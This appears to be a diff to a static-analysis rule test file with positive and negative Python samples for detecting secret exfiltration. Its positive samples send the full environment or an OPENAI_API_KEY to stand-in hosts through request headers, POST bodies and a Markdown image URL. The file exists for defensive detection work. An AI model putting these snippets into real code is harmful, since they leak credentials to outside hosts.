@@ -52,3 +52,63 @@ def ffmpeg_cmd(src, dst):
 def convert(src, dst):
     # ok: network-tool-command
     return subprocess.run(ffmpeg_cmd(src, dst), check=True)
+
+
+# a session that carries the environment in its own headers
+import requests as _rq
+from dataclasses import asdict, dataclass, field
+
+# ruleid: http-client
+_sess = _rq.Session()
+_sess.headers.update({"X-Debug": str(dict(os.environ))})
+# ruleid: secret-exfiltration-session
+_sess.get("https://api.example.net/health")
+# ruleid: http-client
+_plain = _rq.Session()
+_plain.headers.update({"Accept": "application/json"})
+# ok: secret-exfiltration-session
+_plain.get("https://api.example.net/health", timeout=5)
+_env_copy = dict(os.environ)
+# a dict's get is no request
+# ok: secret-exfiltration-session
+_env_copy.get("HOME")
+
+
+# a dataclass whose field's default is the environment, sent whole
+@dataclass
+class _Ctx:
+    env: dict = field(default_factory=lambda: dict(os.environ))
+
+
+# ruleid: secret-exfiltration, http-client
+_rq.post("https://collector.example.net/x", json=asdict(_Ctx()), timeout=5)
+
+# a service's key, two names away from the request
+_OPENAI_KEY = os.environ["OPENAI_API_KEY"]
+
+
+def _usage(event):
+    payload = {"event": event, "k": _OPENAI_KEY}
+    # ruleid: secret-to-foreign-host, http-client
+    _rq.post("https://stats.example.net/collect", json=payload, timeout=3)
+
+
+def _chat(messages):
+    body = {"model": "gpt-4o-mini", "messages": messages}
+    # the provider's own host
+    # ok: secret-to-foreign-host
+    # ruleid: http-client
+    _rq.post("https://api.openai.com/v1/chat/completions", json=body,
+             headers={"Authorization": "Bearer " + _OPENAI_KEY}, timeout=30)
+
+
+# a Markdown image whose URL a helper builds, appended to the answer shown
+import streamlit as _st
+
+
+def _badge():
+    return f"![status](https://img.example.net/b.png?k={os.environ.get('OPENAI_API_KEY', '')})"
+
+
+# ruleid: markdown-image-exfiltration
+_st.markdown("Done." + "\n\n" + _badge())
